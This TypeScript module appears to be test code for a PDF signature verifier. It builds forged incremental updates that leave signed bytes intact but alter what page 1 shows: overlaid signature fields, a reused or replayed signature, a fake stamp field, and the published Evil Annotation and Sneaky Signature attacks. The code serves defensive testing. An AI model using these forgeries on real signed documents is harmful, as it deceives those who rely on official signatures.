import { PdfRef, PdfString } from '../../daemon/src/pdf/reader/index.js';
import { WritableDict, name, text } from '../../daemon/src/pdf/writer/serialize.js';
import type { Signer } from '../../daemon/src/token/signer.js';
import {
  PAGE_RECT,
  acroFormWith,
  appearance,
  coverPaint,
  fieldNamed,
  firstSignature,
  pageAnnotsWith,
} from './pdf-form-edits.js';
import { signatureField, signedUpdate } from './pdf-hand-signing.js';
import { appendUpdate } from './pdf-update-writer.js';

/**
 * Forged updates after a signature that exploit what the change analysis allows for forms
 * (empty signature fields, widgets, stamp fields, certification permissions); each leaves the
 * signed bytes intact and changes what page 1 shows.
 */

/** Name and rectangle of the empty signature field an author prepared before anyone signed. */
export const EMPTY_SIG_FIELD = 'ChuKyLanhDao';
const EMPTY_SIG_RECT = [340, 90, 540, 160];
/** Name and rectangle of an ordinary text field present before signing, over the body text. */
export const NOTE_FIELD = 'GhiChu';
const NOTE_RECT = [80, 420, 520, 640];
/** Where the annotations and the sneaky signature of the certification attacks go: over the title and body. */
const COVER_RECT = [40, 380, 560, 720];

const size = (rect: number[]): [number, number] => [rect[2]! - rect[0]!, rect[3]! - rect[1]!];

// ---- originals prepared before signing ------------------------------------------------------------

/** The unsigned document with an empty, visible signature field on page 1 (as a form author makes it). */
export function withEmptySignatureField(unsigned: Uint8Array): Buffer {
  return appendUpdate(unsigned, (r, next) => {
    const [w, h] = size(EMPTY_SIG_RECT);
    const ap = appearance(next, [0, 0, w, h], Buffer.from(`0 0 0 RG 1 w 0.5 0.5 ${w - 1} ${h - 1} re S\n`));
    const widget = next();
    const ref = new PdfRef(widget, 0);
    return {
      objects: [
        ap.object,
        {
          num: widget,
          value: WritableDict.of({
            Type: name('Annot'),
            Subtype: name('Widget'),
            FT: name('Sig'),
            T: text(EMPTY_SIG_FIELD),
            F: 4,
            Rect: EMPTY_SIG_RECT,
            P: r.page(0).ref,
            AP: WritableDict.of({ N: ap.ref }),
          }),
        },
        ...pageAnnotsWith(r, 0, [ref]),
        ...acroFormWith(r, next, { fields: [ref] }),
      ],
    };
  });
}

/** The unsigned document with an empty text field over the body of page 1 (transparent appearance). */
export function withTextField(unsigned: Uint8Array): Buffer {
  return appendUpdate(unsigned, (r, next) => {
    const [w, h] = size(NOTE_RECT);
    const ap = appearance(next, [0, 0, w, h], Buffer.from('/Tx BMC EMC\n'));
    const widget = next();
    const ref = new PdfRef(widget, 0);
    return {
      objects: [
        ap.object,
        {
          num: widget,
          value: WritableDict.of({
            Type: name('Annot'),
            Subtype: name('Widget'),
            FT: name('Tx'),
            T: text(NOTE_FIELD),
            V: text(''),
            DA: text('/Helv 12 Tf 0 g'),
            F: 4,
            Rect: NOTE_RECT,
            P: r.page(0).ref,
            AP: WritableDict.of({ N: ap.ref }),
          }),
        },
        ...pageAnnotsWith(r, 0, [ref]),
        ...acroFormWith(r, next, {
          fields: [ref],
          acro: (acro) =>
            acro.set(
              'DR',
              WritableDict.of({
                Font: WritableDict.of({
                  Helv: WritableDict.of({
                    Type: name('Font'),
                    Subtype: name('Type1'),
                    BaseFont: name('Helvetica'),
                  }),
                }),
              }),
            ),
        }),
      ],
    };
  });
}

// ---- attacks -------------------------------------------------------------------------------------

/**
 * Attack 1: the empty signature field prepared before signing is given a page-sized /Rect and an
 * appearance that whites out the page and writes new text; /V null, never signed.
 */
export function paintEmptySignatureField(input: Uint8Array, opts: { mk: boolean }): Buffer {
  return appendUpdate(input, (r, next) => {
    const field = fieldNamed(r, EMPTY_SIG_FIELD);
    const [w, h] = size(PAGE_RECT);
    const ap = appearance(next, [0, 0, w, h], coverPaint(w, h));
    const widget = WritableDict.from(field.dict)
      .set('Rect', PAGE_RECT)
      .set('AP', WritableDict.of({ N: ap.ref }))
      .set('V', null);
    if (opts.mk) widget.set('MK', WritableDict.of({ BG: [1, 1, 1], BC: [1, 1, 1] }));
    return { objects: [ap.object, { num: field.ref.num, value: widget }] };
  });
}

/**
 * Attack 2: a new page-sized widget on page 1 that borrows the existing signature, listed in
 * /Annots only: (a) a kid of the signed field (/Parent), (b) a new field whose /V is the signed
 * field's signature dictionary.
 */
export function addWidgetReusingSignature(input: Uint8Array, variant: 'kid' | 'new-field'): Buffer {
  return appendUpdate(input, (r, next) => {
    const signed = firstSignature(r);
    const [w, h] = size(PAGE_RECT);
    const ap = appearance(next, [0, 0, w, h], coverPaint(w, h));
    const widget = next();
    const dict = WritableDict.of({
      Type: name('Annot'),
      Subtype: name('Widget'),
      F: 4,
      Rect: PAGE_RECT,
      P: r.page(0).ref,
      AP: WritableDict.of({ N: ap.ref }),
    });
    if (variant === 'kid') dict.set('Parent', signed.field);
    else dict.set('FT', name('Sig')).set('T', text('ChuKyPhu')).set('V', signed.value);
    return {
      objects: [ap.object, { num: widget, value: dict }, ...pageAnnotsWith(r, 0, [new PdfRef(widget, 0)])],
    };
  });
}

/**
 * Attack 3: a read-only text field named like our number stamp (SoVanBan) with a page-sized
 * appearance, plus an unreferenced signature dictionary (the signed field's /ByteRange and
 * /Contents replayed) so that the update looks as if it added a signature.
 */
export function addStampFieldWithOrphanSignature(input: Uint8Array): Buffer {
  return appendUpdate(input, (r, next) => {
    const signed = r.dict(firstSignature(r).value)!;
    const [w, h] = size(PAGE_RECT);
    const ap = appearance(next, [0, 0, w, h], coverPaint(w, h));
    const field = next();
    const orphan = next();
    const ref = new PdfRef(field, 0);
    const contents = r.resolve(signed.get('Contents'));
    if (!(contents instanceof PdfString)) throw new Error('signature without /Contents');
    return {
      objects: [
        ap.object,
        {
          num: field,
          value: WritableDict.of({
            Type: name('Annot'),
            Subtype: name('Widget'),
            FT: name('Tx'),
            T: text('SoVanBan'),
            V: text('1637/QĐ-UBND'),
            Ff: 1,
            F: 4,
            DA: text('/F1 13 Tf 0 g'),
            Rect: PAGE_RECT,
            P: r.page(0).ref,
            AP: WritableDict.of({ N: ap.ref }),
          }),
        },
        {
          num: orphan,
          value: WritableDict.of({
            Type: name('Sig'),
            Filter: name('Adobe.PPKLite'),
            SubFilter: name('ETSI.CAdES.detached'),
            ByteRange: r.resolve(signed.get('ByteRange')) as number[],
            Contents: new PdfString(contents.bytes, true),
          }),
        },
        ...pageAnnotsWith(r, 0, [ref]),
        ...acroFormWith(r, next, { fields: [ref] }),
      ],
    };
  });
}

/** Attack 4: the widget of a text field present before signing gets a new appearance (same /Rect). */
export function repaintTextField(input: Uint8Array): Buffer {
  return appendUpdate(input, (r, next) => {
    const field = fieldNamed(r, NOTE_FIELD);
    const [w, h] = size(NOTE_RECT);
    const ap = appearance(next, [0, 0, w, h], coverPaint(w, h));
    return {
      objects: [
        ap.object,
        {
          num: field.ref.num,
          value: WritableDict.from(field.dict).set('AP', WritableDict.of({ N: ap.ref })),
        },
      ],
    };
  });
}

/**
 * Evil Annotation Attack (Mladenov et al. 2021): a FreeText or Stamp annotation whose appearance
 * covers the title and body of page 1, added after a certification.
 */
export function addCoveringAnnotation(input: Uint8Array, subtype: 'FreeText' | 'Stamp'): Buffer {
  return appendUpdate(input, (r, next) => {
    const [w, h] = size(COVER_RECT);
    const ap = appearance(next, [0, 0, w, h], coverPaint(w, h));
    const annot = next();
    const dict = WritableDict.of({
      Type: name('Annot'),
      Subtype: name(subtype),
      Rect: COVER_RECT,
      F: 4,
      P: r.page(0).ref,
      Contents: text('QUYET DINH DA SUA'),
      AP: WritableDict.of({ N: ap.ref }),
    });
    if (subtype === 'FreeText') dict.set('DA', text('/Helv 24 Tf 0 g'));
    else dict.set('Name', name('Approved'));
    return {
      objects: [ap.object, { num: annot, value: dict }, ...pageAnnotsWith(r, 0, [new PdfRef(annot, 0)])],
    };
  });
}

/**
 * Sneaky Signature Attack (Mladenov et al. 2021): a new signature field whose widget appearance
 * covers the page text, signed by another key, added after a certification.
 */
export async function addCoveringSignature(input: Uint8Array, signer: Signer): Promise<Buffer> {
  return signedUpdate(input, signer, (r, next) => {
    const [w, h] = size(COVER_RECT);
    const field = signatureField(r, next, { field: 'XacNhan', rect: COVER_RECT, paint: coverPaint(w, h) });
    return {
      objects: [
        ...field.objects,
        ...pageAnnotsWith(r, 0, [field.widget]),
        ...acroFormWith(r, next, { fields: [field.widget] }),
      ],
    };
  });
}
